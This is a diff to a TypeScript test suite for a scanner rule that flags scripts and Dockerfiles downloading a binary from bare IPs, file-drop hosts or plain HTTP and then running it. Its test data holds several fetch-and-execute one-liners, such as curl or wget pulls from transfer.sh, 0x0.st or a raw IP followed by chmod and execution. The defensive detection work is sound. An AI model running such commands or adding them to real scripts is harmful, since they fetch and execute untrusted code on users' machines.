@@ -9,13 +9,19 @@ const hit = (...lines: string[]) => suspiciousDownloadRun(lines);
 
 describe('downloaded-binary-run', () => {
   it('finds a download from a bare public IP, a host named after one, or a paste, tunnel or file-drop host, that is made executable or run', () => {
-    expect(hit('curl -sLo /tmp/h https://185.199.1.2/tools/h && chmod +x /tmp/h && /tmp/h warm')).toEqual({ index: 0, source: 'a bare IP address (https://185.199.1.2)' });
+    expect(hit('curl -sLo /tmp/h https://185.199.1.2/tools/h && chmod +x /tmp/h && /tmp/h warm')).toEqual({ index: 0, source: 'a bare IP address (https://185.199.1.2)', plainHttp: false });
     expect(hit('wget -q https://transfer.sh/abc/helper -O h', './h --init')?.source).toBe('transfer.sh');
     expect(hit('curl -fsSL -o agent https://45-139-104-115.sslip.io/agent', 'sh agent')?.index).toBe(0);
     expect(hit('curl -sO https://0x0.st/Hx.sh', 'bash Hx.sh')?.source).toBe('0x0.st');
     expect(hit('Invoke-WebRequest https://file.io/x -OutFile u.exe; chmod 755 u.exe')?.source).toBe('file.io');
     expect(suspiciousDownloadRun(['ADD --chmod=755 https://185.199.1.2/h /usr/local/bin/h'], { dockerfile: true })?.index).toBe(0);
     expect(suspiciousDownloadRun(['ADD https://185.199.1.2/h /usr/local/bin/h', 'RUN /usr/local/bin/h --init'], { dockerfile: true })?.index).toBe(0);
+  });
+
+  it('finds a file fetched over plain HTTP from a named public host and run (medium where it is reported: anyone on the path can swap it)', () => {
+    expect(hit('wget http://downloads.example.org/tools/helper-1.2 -O helper && chmod +x helper')).toEqual({ index: 0, source: 'plain HTTP (downloads.example.org)', plainHttp: true });
+    expect(hit('curl -sLo /tmp/h http://10.0.0.5/h && chmod +x /tmp/h')).toBeNull();
+    expect(hit('curl -sLo /tmp/h http://localhost:8080/h && chmod +x /tmp/h')).toBeNull();
   });
 
   it('leaves alone: release pages and registries, private addresses, data read not run, uploads, and pipes (curl-pipe-shell’s)', () => {
@@ -34,6 +40,8 @@ describe('downloaded-binary-run', () => {
     expect(extractDockerfile(dockerfile, 'Dockerfile').findings?.filter((f) => f.id === 'downloaded-binary-run').map((f) => [f.severity, f.line])).toEqual([['high', 3]]);
     const patch = ['@@ -1,1 +1,3 @@', ' #!/bin/sh', '+curl -sLo /tmp/h https://185.199.1.2/h', '+chmod +x /tmp/h && /tmp/h'].join('\n');
     expect(scriptDownloadFindings(makeFile('scripts/bootstrap.sh', { patch })).filter((f) => f.id === 'downloaded-binary-run').map((f) => [f.severity, f.line])).toEqual([['high', 2]]);
+    const plain = ['@@ -1,1 +1,3 @@', ' #!/bin/sh', '+curl -sLo /tmp/h http://downloads.example.org/h', '+chmod +x /tmp/h && /tmp/h'].join('\n');
+    expect(scriptDownloadFindings(makeFile('scripts/bootstrap.sh', { patch: plain })).filter((f) => f.id === 'downloaded-binary-run').map((f) => [f.severity, f.line])).toEqual([['medium', 2]]);
     // A download the base already had, moved within the script, is not new.
     const moved = ['@@ -1,3 +1,3 @@', ' #!/bin/sh', '-curl -sLo /tmp/h https://185.199.1.2/h', '+curl -sLo /tmp/h https://185.199.1.2/h', ' chmod +x /tmp/h && /tmp/h'].join('\n');
     expect(scriptDownloadFindings(makeFile('scripts/bootstrap.sh', { patch: moved })).map((f) => f.id)).not.toContain('downloaded-binary-run');
